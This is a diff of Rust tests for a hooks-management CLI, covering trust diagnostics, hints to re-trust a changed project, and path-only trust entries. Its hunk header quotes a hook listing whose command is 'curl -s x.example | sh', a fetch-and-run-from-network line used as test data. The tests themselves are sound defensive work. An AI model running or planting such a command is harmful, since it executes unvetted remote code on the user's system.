@@ -104,10 +104,16 @@ PreToolUse:0:0  active      project  Bash     9s       curl -s x.example | sh
     assert_eq!(json["changes"]["removed"][0]["command"], "exit 2");
     assert_eq!(json["changes"]["unchanged"], 0);
     assert_eq!(json["handlers"][0]["command"], "exit 0");
+    let changed = &env.run(&["run", "Stop", "--payload", STOP]).json()["load_diagnostics"][0];
+    assert_eq!(changed["code"], "project_trust_changed");
+    assert!(!changed["message"].as_str().unwrap().contains("hooks trust"), "{changed}");
     assert_eq!(
-        env.run(&["run", "Stop", "--payload", STOP]).json()["load_diagnostics"][0]["code"],
-        "project_trust_changed"
+        changed["hint"],
+        "review it, then run `hooks trust [TMP]/project` to trust it again"
     );
+    let audit = env.run(&["list"]).stdout;
+    let hinted = "; review it, then run `hooks trust [TMP]/project` to trust it again\n";
+    assert!(audit.contains(hinted), "{audit}");
 
     let revoked = env.run(&["trust", "--revoke"]);
     assert_eq!(mask_digests(&revoked.stdout), "revoked trust for [TMP]/project\n");
@@ -154,4 +160,21 @@ fn grant_without_a_copy_shows_every_hook() {
     // Trusting again keeps a copy of the new bytes.
     assert_eq!(env.run(&["trust", "--yes"]).code, 0);
     assert_eq!(std::fs::read_dir(&copies).unwrap().count(), 1);
+}
+
+#[test]
+fn trust_by_path_only_has_its_own_code_and_hint() {
+    let env = TestEnv::new("trust-path-only");
+    env.project_hooks(HOOKS);
+    // An entry as the reference writes it: no digest.
+    let root = std::fs::canonicalize(&env.project).unwrap();
+    let store = serde_json::json!({"version": 1, "projects": {
+        root.to_str().unwrap(): {"trusted_at": "2025-01-02T03:04:05+00:00"}
+    }});
+    env.write("dahome/.state/hooks_trust.json", &store.to_string());
+    let d = &env.run(&["--json", "list"]).json()["diagnostics"][0];
+    assert_eq!(d["code"], "project_trust_path_only", "{d}");
+    assert_eq!(d["hint"], "review the file, then run `hooks trust [TMP]/project`");
+    let shown = env.run(&["trust", "--show"]).stdout;
+    assert!(shown.contains("by path only (no digest recorded)"), "{shown}");
 }
